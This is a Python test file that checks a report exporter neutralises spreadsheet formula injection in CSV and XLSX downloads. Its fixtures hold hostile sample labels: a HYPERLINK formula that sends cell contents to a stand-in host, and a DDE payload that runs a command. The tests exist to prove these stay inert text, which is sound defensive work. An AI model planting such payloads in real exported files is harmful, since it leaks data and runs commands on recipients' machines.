"""Labels in the downloads come from names others choose (organisations, the deployment's
lists): a spreadsheet must show them as text, never run them as formulas."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

from openpyxl import load_workbook

from reports.downloads import About, csv_bytes, xlsx_bytes
from reports.suppression import CountTable, protect
from reports.tables import Figure, Section

EVIL = ['=HYPERLINK("http://x.test/"&A1,"click")', "+1+2", "-3+4", "@SUM(A1)", "Plain"]


def _figure() -> Figure:
    table = protect(CountTable.of(EVIL, ["=cmd|' /C calc'!A0", "Sent"], [[7, 9]] * len(EVIL)))
    return Figure("referrals_by_provider", "=Title", "-definition", table)


def test_csv_labels_that_look_like_formulas_are_text():
    rows = list(csv.reader(io.StringIO(csv_bytes(_figure()).decode("utf-8-sig"))))
    assert rows[0][1] == "'=cmd|' /C calc'!A0"
    labels = [r[0] for r in rows[1:-1]]
    assert labels == ["'" + e for e in EVIL[:4]] + ["Plain"]
    assert rows[1][1:] == ["7", "9", "16"]  # numbers stay numbers


def test_xlsx_labels_that_look_like_formulas_are_text():
    about = About("=Figures", [("Organisations", "=EVIL()")], date(2026, 11, 1), "rule", {})
    body = xlsx_bytes([Section("referrals", "Referrals", (_figure(),))], about)
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        xml = "".join(book.read(n).decode() for n in book.namelist() if n.endswith(".xml"))
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    book = load_workbook(io.BytesIO(body))
    sheet = book["referrals_by_provider"]
    assert sheet["A5"].value == EVIL[0] and sheet["A5"].data_type == "s"
    assert sheet["B4"].value == "=cmd|' /C calc'!A0" and sheet["B4"].data_type == "s"
    assert sheet["B5"].value == 7
    assert book.worksheets[0]["A1"].value == "=Figures"
